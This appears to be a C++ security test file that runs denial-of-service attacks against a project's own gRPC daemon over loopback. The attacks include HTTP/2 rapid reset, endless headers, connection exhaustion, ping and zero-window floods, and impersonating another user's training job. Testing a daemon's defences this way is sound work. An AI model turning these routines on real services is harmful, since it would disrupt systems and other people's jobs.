// Attacks with connections and calls that belong to no session: on the daemon's socket, on its side
// socket, on its peer port, on engines, and on the connections that it makes to coordinators.

#include <arpa/inet.h>
#include <grpcpp/create_channel_posix.h>
#include <grpcpp/generic/generic_stub.h>
#include <grpcpp/grpcpp.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <deque>
#include <fstream>
#include <functional>
#include <iostream>
#include <memory>
#include <mutex>
#include <sstream>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "gradsync/shared_memory.h"
#include "gradsync/v1/introspection.grpc.pb.h"
#include "gradsync/v1/peer.grpc.pb.h"
#include "tests/attack/attacker.h"
#include "tests/attack/raw_http2.h"
#include "tests/fault/fake_coordinator.h"
#include "tests/fault/raw_session.h"
#include "tests/kit/become_user.h"
#include "tests/kit/child_process.h"
#include "tests/kit/connect.h"

namespace gradsync::attack {
namespace {

using fault::FakeCoordinator;

// All loopback addresses belong to this machine, so anyone may call from any of them.
constexpr char kOwnAddress[] = "127.0.0.9";
constexpr std::chrono::milliseconds kPace(1);  // between two attempts that may fail
constexpr char kSession[] = "/gradsync.v1.GradientSync/Session";
constexpr char kStatus[] = "/gradsync.v1.Introspection/GetStatus";
constexpr char kHealth[] = "/grpc.health.v1.Health/Check";
constexpr char kReflection[] = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo";
constexpr char kUnknown[] = "/no.Service/Method";
constexpr char kAttach[] = "/gradsync.v1.Peer/Attach";

void RaiseDescriptorLimit() {
  rlimit limit{};
  getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_cur = limit.rlim_max;
  setrlimit(RLIMIT_NOFILE, &limit);
}

// ---- Connections that say nothing

// As many as it can get, up to `count`, and a new one for each that the daemon closes.
[[noreturn]] void HoldConnections(std::size_t count, const std::function<Descriptor()>& connect) {
  RaiseDescriptorLimit();
  std::vector<Descriptor> open(count);
  Repeat(1, [&](int) {
    for (Descriptor& one : open) {
      char byte = 0;
      const bool closed = one.get() < 0 || recv(one.get(), &byte, 1, MSG_PEEK | MSG_DONTWAIT) == 0;
      if (closed) one = connect();
    }
    std::this_thread::sleep_for(kPace);
  });
}

// It does not wait if the listener's queue is full: then nobody else gets in either.
void Connections(const Target& target) {
  HoldConnections(2000, [&] { return ConnectUnix(target.socket, SOCK_STREAM | SOCK_NONBLOCK); });
}

void SideConnections(const Target& target, std::size_t count) {
  HoldConnections(count,
                  [&] { return ConnectUnix(target.side_socket, SOCK_SEQPACKET | SOCK_NONBLOCK); });
}

void PeerConnections(const Target& target) {
  HoldConnections(1500, [&] { return ConnectTcp(target.peer, kOwnAddress); });
}

// ---- Calls

std::shared_ptr<grpc::Channel> ConnectionTo(const Target& target) {
  grpc::ChannelArguments arguments;
  arguments.SetInt(GRPC_ARG_USE_LOCAL_SUBCHANNEL_POOL, 1);
  return grpc::CreateCustomChannel("unix:" + target.socket, grpc::InsecureChannelCredentials(),
                                   arguments);
}

// Opens streams of reflection and says nothing on them: 32 on each of four connections.
void ReflectionStreams(const Target& target) {
  OnThreads(4, [&](int, const Begun& begun) {
    const auto channel = ConnectionTo(target);
    channel->WaitForConnected(std::chrono::system_clock::now() + std::chrono::seconds(10));
    grpc::GenericStub stub(channel);
    grpc::CompletionQueue queue;
    std::vector<grpc::ClientContext> contexts(32);
    std::vector<std::unique_ptr<grpc::GenericClientAsyncReaderWriter>> streams;
    for (grpc::ClientContext& context : contexts) {
      streams.push_back(stub.PrepareCall(&context, kReflection, &queue));
      streams.back()->StartCall(nullptr);
      void* tag = nullptr;
      bool ok = false;
      queue.Next(&tag, &ok);
    }
    begun();
    for (;;) pause();
  });
}

// Asks everything that can be asked and reads no answer, with a window of 0 bytes; again whenever
// the daemon has ended a connection.
void ZeroWindow(const Target& target) {
  std::vector<std::unique_ptr<RawHttp2>> connections(32);
  Repeat(1, [&](int) {
    for (auto& connection : connections) {
      if (connection != nullptr && connection->Call(kStatus, "")) continue;
      connection = std::make_unique<RawHttp2>(target.socket, /*window=*/0);
      for (int i = 0; i < 8; ++i) {
        connection->Call(kStatus, "");
        connection->Call("/gradsync.v1.Introspection/GetStats", "");
        connection->Call(kHealth, "");
        connection->Call("/grpc.health.v1.Health/Watch", "");
      }
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(50));  // the pace of the attack
  });
}

// Asks for the status without a pause, on eight connections.
void StatusFlood(const Target& target) {
  OnThreads(8, [&](int, const Begun& begun) {
    const auto stub = v1::Introspection::NewStub(ConnectionTo(target));
    for (;; begun()) {
      grpc::ClientContext context;
      context.set_deadline(std::chrono::system_clock::now() + std::chrono::seconds(1));
      v1::GetStatusResponse response;
      stub->GetStatus(&context, {}, &response);
    }
  });
}

// A connection to the peer port for several streams. Thread-safe.
class PeerConnection {
 public:
  explicit PeerConnection(std::string peer) : peer_(std::move(peer)) {}
  // Connects if there is no connection. Null: the daemon does not let it in.
  std::shared_ptr<v1::Peer::Stub> Get() {
    const std::lock_guard<std::mutex> lock(mutex_);
    if (stub_ == nullptr) {
      const Descriptor fd = ConnectTcp(peer_, kOwnAddress);
      if (fd.get() < 0) return nullptr;
      stub_ = v1::Peer::NewStub(grpc::CreateInsecureChannelFromFd("peer", dup(fd.get())));
    }
    return stub_;
  }
  // The next stream needs a new connection. Does nothing if there is a newer one.
  void Ended(const std::shared_ptr<v1::Peer::Stub>& stub) {
    const std::lock_guard<std::mutex> lock(mutex_);
    if (stub_ == stub) stub_ = nullptr;
  }

 private:
  const std::string peer_;
  std::mutex mutex_;
  std::shared_ptr<v1::Peer::Stub> stub_;
};

v1::AttachRequest HelloOf(std::uint32_t user, const std::string& job) {
  v1::AttachRequest message;
  v1::Hello& hello = *message.mutable_hello();
  hello.set_protocol(1);
  hello.set_instance(std::string(16, 'x'));
  hello.set_node_name("attacker");
  hello.set_uid(user);
  hello.set_job_id(job);
  hello.set_staging_bytes(32u << 20);
  return message;
}

struct PeerStreamCounts {
  int streams;  // more than an address may have
  int per_connection;
  std::chrono::milliseconds pause;  // the pace of the attack: after the end of a stream
};

// Opens streams that say Hello, or nothing at all, and keeps them open. Opens another one for each
// that the daemon ends. Prints READY when the daemon has refused one because there are too many.
void PeerStreams(const Target& target, bool greet, const PeerStreamCounts& counts) {
  std::deque<PeerConnection> connections;
  for (int i = 0; i < counts.streams; i += counts.per_connection) {
    connections.emplace_back(target.peer);
  }
  std::once_flag full;
  OnThreads(counts.streams, [&](int thread, const Begun&) {
    const auto message = HelloOf(target.user, "attack" + std::to_string(thread));
    PeerConnection& connection =
        connections[static_cast<std::size_t>(thread / counts.per_connection)];
    for (;;) {
      const auto stub = connection.Get();
      if (stub == nullptr) {
        std::this_thread::sleep_for(kPace);
        continue;
      }
      grpc::ClientContext context;
      const auto stream = stub->Attach(&context);
      if (greet) stream->Write(message);
      v1::AttachResponse answer;
      while (stream->Read(&answer)) {
      }
      const grpc::Status end = stream->Finish();
      if (end.error_message().find("as many as one") != std::string::npos) {
        std::call_once(full, [] { std::cout << "READY" << std::endl; });
      }
      connection.Ended(stub);  // the daemon allows a connection few calls
      std::this_thread::sleep_for(counts.pause);
    }
  });
}

// A local user other than the daemon's says Hello in the name of the victim's job, and opens a
// session of the job's rank 0. If the daemon allowed that, a job that has this rank would end.
void PeerStrangers(const Target& target) {
  if (!BecomeUser(target.user)) _exit(1);
  const Victim& victim = target.victim;
  v1::AttachRequest rank;
  rank.mutable_rank_request()->set_incarnation(1);
  v1::SessionRequest& request = *rank.mutable_rank_request()->mutable_request();
  request = fault::RawSession::OpenRequest(0, victim.ranks, victim.job);
  v1::JobOptions& options = *request.mutable_open_session()->mutable_options();
  options.set_divisor(v1::DIVISOR_LIVE_RANKS);
  options.set_step_timeout_ms(1'800'000);
  Repeat(4, [&](int) {
    std::this_thread::sleep_for(kPace);
    PeerConnection connection(target.peer);
    const auto stub = connection.Get();
    if (stub == nullptr) return;
    grpc::ClientContext context;
    const auto stream = stub->Attach(&context);
    stream->Write(HelloOf(victim.user, victim.job));
    stream->Write(rank);
    v1::AttachResponse answer;
    while (stream->Read(&answer)) {
    }
    stream->Finish();
  });
}

// Asks for memory with nonces that nobody has, and with packets that mean nothing.
void SideRequests(const Target& target) {
  Repeat(4, [&](int thread) {
    const std::string packet = thread % 2 == 0
                                   ? fault::FdRequestBytes(std::string(kNonceBytes, 'x'))
                                   : std::string(100'000, 'y');
    fault::AskSideSocket(target.side_socket, packet);
  });
}

// ---- Frames made by hand

using Connect = std::function<RawHttp2()>;
Connect ToSocket(const Target& target) {
  return [path = target.socket] { return RawHttp2(path, 65535); };
}
Connect ToPeer(const Target& target) {
  return [peer = target.peer] { return RawHttp2(ConnectTcp(peer, kOwnAddress), 65535); };
}

// Acts on so many connections without a pause, and connects again when the daemon has ended one.
void OnConnections(int connections, const Connect& connect,
                   const std::function<void(RawHttp2*)>& act) {
  OnThreads(connections, [&](int, const Begun& begun) {
    for (;;) {
      for (RawHttp2 connection = connect(); connection.connected(); begun()) act(&connection);
      begun();  // it may have been refused
      std::this_thread::sleep_for(kPace);
    }
  });
}

// Opens calls and resets them at once, as fast as it can (CVE-2023-44487).
void Reset(const Connect& connect, const std::string& method, int connections_of_thread) {
  OnThreads(8, [&](int, const Begun& begun) {
    for (;;) {
      std::vector<RawHttp2> connections;
      for (int i = 0; i < connections_of_thread; ++i) connections.push_back(connect());
      for (bool any = true; any; begun()) {
        any = false;
        for (RawHttp2& one : connections) any |= one.connected() && one.OpenAndReset(method, 100);
      }
      begun();  // all may have been refused
      std::this_thread::sleep_for(kPace);
    }
  });
}

// Sends frames that mean nothing.
void Nothings(const Connect& connect) {
  OnConnections(2, connect, [](RawHttp2* connection) { connection->SendNothings(); });
}

// Begins something on so many connections and goes on with it without end. Connects again when the
// daemon has ended a connection.
void WithoutEnd(int connections, const Connect& connect,
                const std::function<bool(RawHttp2*)>& begin,
                const std::function<bool(RawHttp2*)>& go_on) {
  OnThreads(connections, [&](int, const Begun& begun) {
    for (;;) {
      RawHttp2 connection = connect();
      bool goes_on = connection.connected() && begin(&connection);
      for (; goes_on; begun()) goes_on = go_on(&connection);
      begun();  // it may have been refused
      std::this_thread::sleep_for(kPace);
    }
  });
}

// Sends a call's headers, which never end (CVE-2023-33953).
void Headers(const Connect& connect, const std::string& method) {
  WithoutEnd(
      4, connect, [&](RawHttp2* connection) { return connection->BeginHeaders(method); },
      [](RawHttp2* connection) { return connection->ContinueHeaders(); });
}

// Sends a call's messages in frames of so many bytes; 0: empty ones, which never become a
// message.
void SmallData(const Connect& connect, const std::string& method, std::size_t bytes) {
  WithoutEnd(
      4, connect, [&](RawHttp2* connection) { return connection->Begin(method, ""); },
      [&](RawHttp2* connection) { return connection->SendSmallData(bytes); });
}

// Sends a message of 1 GiB slowly: gRPC holds a message whole before it compares its length with
// the limit.
void EndlessMessages(const Connect& connect, const std::string& method) {
  constexpr std::chrono::milliseconds kBetweenPieces(4);
  WithoutEnd(
      32, connect, [&](RawHttp2* connection) { return connection->BeginMessage(method, 1u << 30); },
      [&](RawHttp2* connection) {
        std::this_thread::sleep_for(kBetweenPieces);  // the pace of the attack
        return connection->ContinueMessage();
      });
}

// Sends pings, and reads no answer. gRPC keeps up to 10,000 answers of each connection.
void Pings(const Connect& connect) {
  OnConnections(8, connect, [](RawHttp2* connection) { connection->SendPings(1000); });
}

// Begins headers that take much more memory than bytes on the wire, and keeps the connections.
void IndexedHeaders(const Connect& connect, const std::string& method) {
  OnThreads(4, [&](int, const Begun& begun) {
    for (std::deque<RawHttp2> kept;;) {
      kept.push_back(connect());
      if (kept.back().connected()) kept.back().BeginIndexedHeaders(method);
      begun();
      if (kept.size() > 200) kept.pop_front();
      std::this_thread::sleep_for(kPace);
    }
  });
}

// Keeps calls whose headers take much more memory than bytes on the wire: on many connections, so
// that each has few.
void IndexedCalls(const Connect& connect, const std::string& name, std::size_t value_bytes) {
  OnThreads(4, [&](int, const Begun& begun) {
    for (std::deque<RawHttp2> kept;;) {
      kept.push_back(connect());
      for (int i = 0; i < 25 && kept.back().connected(); ++i) {
        kept.back().CallWithIndexedHeaders(kSession, name, value_bytes);
      }
      begun();
      if (kept.size() > 10) kept.pop_front();
      std::this_thread::sleep_for(kPace);
    }
  });
}

// Opens calls with long headers at their ends.
void Trailers(const Connect& connect, const std::string& method) {
  OnConnections(4, connect, [&](RawHttp2* connection) { connection->CallWithTrailers(method); });
}

// The same as Headers(), but never leaves more than 1 KiB unread.
void SlowHeaders(const Connect& connect, const std::string& method) {
  OnThreads(4, [&](int, const Begun& begun) {
    for (;;) {
      RawHttp2 connection = connect();
      bool goes_on = connection.connected() && connection.BeginShortHeaders(method);
      for (; goes_on; begun()) {
        while (connection.unsent() > 0) {
        }
        goes_on = connection.ContinueShortHeaders();
      }
      begun();  // it may have been refused
      std::this_thread::sleep_for(kPace);
    }
  });
}

// Opens calls with long headers, and keeps them open.
void LongHeaders(const Connect& connect, const std::string& method) {
  OnConnections(4, connect, [&](RawHttp2* connection) {
    connection->BeginHeaders(method);
    connection->EndHeaders();
  });
}

// The same as Reset(), but each connection sends what its buffer takes, and then no more. The
// daemon's accept loop sees its end while gRPC still reads it.
void ResetAndClose(const Target& target, const std::string& method) {
  OnThreads(8, [&](int, const Begun& begun) {
    for (std::deque<RawHttp2> closed;; begun()) {
      closed.emplace_back(target.socket, 65535).ResetAndClose(method);
      if (closed.size() > 60) closed.pop_front();
    }
  });
}

// Opens connections whose answers it does not read, says that nothing more comes, and keeps them.
// They bring pings until the server reads no more: gRPC has 10,000 answers to write, and cannot.
void StallAndClose(const Target& target) {
  RaiseDescriptorLimit();
  OnThreads(4, [&](int, const Begun& begun) {
    constexpr std::size_t kAtOnce = 32;
    constexpr int kTurns = 60;
    for (std::deque<RawHttp2> closed;;) {
      const std::size_t first = closed.size();
      for (std::size_t i = 0; i < kAtOnce; ++i) closed.emplace_back(target.socket, 65535);
      for (int turn = 0; turn < kTurns; ++turn) {
        for (std::size_t i = first; i < closed.size(); ++i) {
          if (closed[i].unsent() == 0) closed[i].SendPings(1000);
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(10));  // the pace of the attack
      }
      for (std::size_t i = first; i < closed.size(); ++i) closed[i].SendNoMore();
      begun();
      while (closed.size() > 1000) closed.pop_front();
    }
  });
}

// Sends 3 GiB of long frames that mean nothing without a pause, lets the daemon read all of it, and
// goes on. The daemon ends the connection after 48 KiB. Otherwise gRPC 1.51 could make room for as
// much as it has read since its last pause: it would take as much memory, and abort from 2 GiB on.
void Bulk(const Target& target) {
  constexpr int kMiB = 3 << 10;
  Repeat(1, [&](int) {
    RawHttp2 connection(target.socket, 65535);
    for (int i = 0; i < kMiB && connection.SendBulk(); ++i) {
    }
    while (connection.unsent() > 0) {
      std::this_thread::sleep_for(std::chrono::milliseconds(1));  // the pause
    }
    connection.SendBulk();
    connection.SendBulk();
  });
}

// ---- Engines between nodes

// The TCP ports on which some process of this machine listens, at an address that begins with
// `network` ("127.0.0."), as "127.0.0.1:4711".
std::vector<std::string> ListeningPorts(const std::string& network) {
  std::vector<std::string> ports;
  std::ifstream table("/proc/net/tcp");
  std::string line, number, own, other, state;
  std::getline(table, line);  // the heading
  while (std::getline(table, line)) {
    std::istringstream(line) >> number >> own >> other >> state;
    if (state != "0A") continue;  // it does not listen
    in_addr address{static_cast<in_addr_t>(std::stoul(own, nullptr, 16))};
    char host[INET_ADDRSTRLEN];
    inet_ntop(AF_INET, &address, host, sizeof(host));
    if (std::string(host).compare(0, network.size(), network) != 0) continue;
    ports.push_back(std::string(host) + ":" +
                    std::to_string(std::stoul(own.substr(own.find(':') + 1), nullptr, 16)));
  }
  return ports;
}

// Connects to every port that some process of this machine has opened in the /24 network of
// `target.peer`, and so to the engines while they wait for other nodes: they listen at the address
// of their daemon. Says something that none of them understands. Leaves other networks alone:
// programs that the attack does not mean listen there. Begins when each thread has connected once.
void EngineStrangers(const Target& target) {
  const std::string network = target.peer.substr(0, target.peer.rfind('.') + 1);
  if (network.empty()) {
    std::cerr << "attacker: --peer=HOST:PORT" << std::endl;
    _exit(2);
  }
  OnThreads(4, [&](int, const Begun& begun) {
    for (;;) {
      for (const std::string& port : ListeningPorts(network)) {
        const Descriptor stranger = ConnectTcp(port, kOwnAddress);
        if (stranger.get() < 0) continue;
        const std::string bytes(48, '\x03');  // as long as an operation of Gloo
        send(stranger.get(), bytes.data(), bytes.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
        begun();
      }
      std::this_thread::sleep_for(kPace);
    }
  });
}

// ---- Coordinators that trainers have chosen

// A trainer on each thread, whose job's coordinator is this process. Acts on each connection of the
// daemon until one side ends it. When the daemon makes none, the trainer joins again.
void Coordinators(const Target& target, const std::function<void(RawHttp2*)>& act) {
  constexpr int kLimitMs = 100;
  OnThreads(8, [&](int thread, const Begun& begun) {
    std::string address;
    const Descriptor listener = ListenTcp(kOwnAddress, &address);
    for (;;) {
      fault::RawSession trainer(target.socket);
      auto open = fault::RawSession::OpenRequest(1, 2, "coordinated" + std::to_string(thread));
      open.mutable_open_session()->set_coordinator(address);
      trainer.Send(open);
      for (;;) {
        Descriptor accepted = AcceptOne(listener, kLimitMs);
        begun();  // the daemon may have refused the trainer
        if (accepted.get() < 0) break;
        RawHttp2 daemon = RawHttp2::Server(std::move(accepted));
        while (daemon.connected()) act(&daemon);
      }
    }
  });
}

// Frames without a meaning, but too few to be refused. Then it ends the connection itself, and
// accepts the next one, also for the same trainer.
void CoordinatorsShortFloods(const Target& target) {
  Coordinators(target, [](RawHttp2* daemon) {
    daemon->SendNothings();
    daemon->SendNothings();
    daemon->Close();
  });
}

// A trainer on each thread, whose job's coordinator runs the attack's script.
void JoinCoordinators(const Target& target) {
  OnThreads(kCoordinators, [&](int thread, const Begun& begun) {
    for (bool first = true;; first = false) {
      fault::RawSession trainer(target.socket);
      auto open = fault::RawSession::OpenRequest(1, 2, "coordinated" + std::to_string(thread));
      open.mutable_open_session()->set_coordinator(target.coordinators->address(thread));
      trainer.Send(open);
      // The daemon may have paused the user, because of an earlier attack or of the other threads.
      if (first && thread == 0) target.coordinators->AwaitStream();
      begun();
      trainer.End();  // the daemon has ended the link, or refused the trainer
      std::this_thread::sleep_for(kPace);
    }
  });
}

// Asks for engines without end. Each one takes a thread of the daemon while it connects.
RemoteCoordinators::Script AskForEngines() {
  return [](FakeCoordinator::Stream* stream) {
    for (std::uint64_t epoch = 1; stream->Write(FakeCoordinator::ConnectEngine(epoch)); ++epoch) {
    }
  };
}

// Messages that would take hundreds of megabytes.
RemoteCoordinators::Script SendLongest() {
  return [longest = FakeCoordinator::Longest()](FakeCoordinator::Stream* stream) {
    while (stream->Write(longest)) {
    }
  };
}

// Headers that never end.
void CoordinatorsHeaders(const Target& target) {
  Coordinators(target, [](RawHttp2* daemon) {
    for (bool goes_on = daemon->BeginHeaders(""); goes_on;) goes_on = daemon->ContinueHeaders();
  });
}

}  // namespace

Attacks ConnectionAttacks() {
  constexpr bool kOnPeerPort = true;
  return {
      {"connections", {Connections}},
      {"side_clients", {[](const Target& t) { SideConnections(t, 64); }}},  // as many as a user may
      {"side_connections", {[](const Target& t) { SideConnections(t, 2000); }}},
      {"peer_connections", {PeerConnections, kOnPeerPort}},
      {"reflection_streams", {ReflectionStreams}},
      {"zero_window", {ZeroWindow}},
      {"status_flood", {StatusFlood}},
      {"peer_silent_streams",
       {[](const Target& t) {
          PeerStreams(t, /*greet=*/false, {84, 1, std::chrono::milliseconds(0)});
        },
        kOnPeerPort}},
      {"peer_greeted_streams",
       {[](const Target& t) {
          PeerStreams(t, /*greet=*/true, {276, 46, std::chrono::milliseconds(50)});
        },
        kOnPeerPort}},
      {"peer_strangers", {PeerStrangers, kOnPeerPort, /*across=*/false, /*on_victim=*/true}},
      {"side_requests", {SideRequests}},
      {"reset_sessions", {[](const Target& t) { Reset(ToSocket(t), kSession, 8); }}},
      {"reset_questions", {[](const Target& t) { Reset(ToSocket(t), kHealth, 8); }}},
      {"reset_unknown", {[](const Target& t) { Reset(ToSocket(t), kUnknown, 8); }}},
      {"peer_reset_attach", {[](const Target& t) { Reset(ToPeer(t), kAttach, 32); }, kOnPeerPort}},
      {"peer_reset_unknown",
       {[](const Target& t) { Reset(ToPeer(t), kUnknown, 32); }, kOnPeerPort}},
      {"headers", {[](const Target& t) { Headers(ToSocket(t), kSession); }}},
      {"indexed_headers", {[](const Target& t) { IndexedHeaders(ToSocket(t), kSession); }}},
      {"indexed_calls", {[](const Target& t) { IndexedCalls(ToSocket(t), "x", 1); }}},
      // gRPC copies this one.
      {"copied_headers", {[](const Target& t) { IndexedCalls(ToSocket(t), "lb-cost-bin", 2900); }}},
      {"trailers", {[](const Target& t) { Trailers(ToSocket(t), kSession); }}},
      {"slow_headers", {[](const Target& t) { SlowHeaders(ToSocket(t), kSession); }}},
      {"long_headers", {[](const Target& t) { LongHeaders(ToSocket(t), kSession); }}},
      {"long_unknown_headers", {[](const Target& t) { LongHeaders(ToSocket(t), kUnknown); }}},
      {"reset_and_close", {[](const Target& t) { ResetAndClose(t, kSession); }}},
      {"nothings", {[](const Target& t) { Nothings(ToSocket(t)); }}},
      {"peer_nothings", {[](const Target& t) { Nothings(ToPeer(t)); }, kOnPeerPort}},
      {"empty_data", {[](const Target& t) { SmallData(ToSocket(t), kSession, 0); }}},
      {"small_data", {[](const Target& t) { SmallData(ToSocket(t), kSession, 5); }}},
      {"peer_small_data", {[](const Target& t) { SmallData(ToPeer(t), kAttach, 5); }, kOnPeerPort}},
      {"coordinators_headers", {CoordinatorsHeaders}},
      {"coordinators_engines", {JoinCoordinators, false, false, false, AskForEngines}},
      {"coordinators_longest", {JoinCoordinators, false, false, false, SendLongest}},
      {"coordinators_short_floods", {CoordinatorsShortFloods}},
      {"coordinators_nothings", {[](const Target& t) {
         Coordinators(t, [](RawHttp2* daemon) { daemon->SendNothings(); });
       }}},
      {"coordinators_pings", {[](const Target& t) {
         Coordinators(t, [](RawHttp2* daemon) { daemon->SendPings(1000); });
       }}},
      {"engine_strangers", {EngineStrangers}},
      {"peer_pings", {[](const Target& t) { Pings(ToPeer(t)); }, kOnPeerPort}},
      {"peer_endless_messages",
       {[](const Target& t) { EndlessMessages(ToPeer(t), kAttach); }, kOnPeerPort}},
      {"bulk", {Bulk}},
      {"stall_and_close", {StallAndClose}},
  };
}

}  // namespace gradsync::attack
